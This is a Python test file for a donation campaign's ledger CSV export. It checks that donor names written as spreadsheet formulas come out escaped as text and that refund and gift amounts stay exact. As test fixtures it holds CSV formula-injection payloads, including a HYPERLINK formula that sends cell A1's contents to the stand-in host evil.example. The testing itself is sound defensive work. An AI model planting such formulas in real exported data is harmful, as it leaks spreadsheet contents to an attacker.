"""The public ledger CSV: what a donor typed as their name never runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from partnership.extensions import db
from partnership.ledger.models import LedgerKind
from partnership.ledger.services import append_entry
from tests.factories import english  # noqa: F401  (autouse: pages in English)
from tests.paid_gifts import gift

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_donor_name_that_is_a_formula_stays_text(client, make_campaign):
    campaign = make_campaign()
    gift(campaign, name=EVIL, amount_satang=30_000)
    gift(campaign, name=" @SUM(1+1)", amount_satang=20_000)
    append_entry(
        campaign_id=campaign.id,
        amount_satang=-5_000,
        kind=LedgerKind.REFUND,
        source="evt_refund_csv",
        public_label="",
    )
    db.session.commit()
    response = client.get(f"/campaigns/{campaign.id}/ledger.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    labels = [row[3] for row in rows[1:]]
    assert labels[:2] == ["'" + EVIL, "' @SUM(1+1)"]
    # Amounts stay numbers: a refund's minus is not escaped into text.
    assert [row[5] for row in rows[1:]] == ["300.00", "200.00", "-50.00"]  # in
    assert Decimal(rows[-1][7]) == Decimal("450.00")


def test_the_hyperlink_donor_of_issue_17_is_text_and_the_money_exact(client, make_campaign):
    """Through the real route: the donor named as a live HYPERLINK formula, a full-width
    formula, a Thai name, a one-satang gift and a refund; money exact, minus a number."""
    campaign = make_campaign()
    hyperlink = '=HYPERLINK("http://evil.example/","Click")'
    gift(campaign, name=hyperlink, amount_satang=99_999_999)  # the largest card charge
    gift(campaign, name="＝HYPERLINK(1)", amount_satang=1)
    append_entry(  # a bank transfer staff recorded: larger than any card charge
        campaign_id=campaign.id,
        amount_satang=12_345_678_901,
        kind=LedgerKind.OFFLINE_GIFT,
        source="offline_issue17",
        public_label="มาลี มีสุข",
    )
    append_entry(
        campaign_id=campaign.id,
        amount_satang=-50,
        kind=LedgerKind.REFUND,
        source="evt_refund_issue17",
        public_label="",
    )
    db.session.commit()
    response = client.get(f"/campaigns/{campaign.id}/ledger.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the Thai
    assert f"campaign-{campaign.id}-ledger.csv" in response.headers["Content-Disposition"]
    header, *rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert header == [
        "Entry",
        "Time",
        "Kind",
        "From",
        "Paid to",
        "In (baht)",
        "Out (baht)",
        "Balance (baht)",
    ]
    assert [row[3] for row in rows[:3]] == ["'" + hyperlink, "'＝HYPERLINK(1)", "มาลี มีสุข"]
    assert not any(cell.startswith(("=", "＝")) for row in rows for cell in row)
    assert [row[5] for row in rows] == ["999999.99", "0.01", "123456789.01", "-0.50"]
    assert [row[6] for row in rows] == ["", "", "", ""]  # nothing paid out
    assert [row[7] for row in rows] == ["999999.99", "1000000.00", "124456789.01", "124456788.51"]
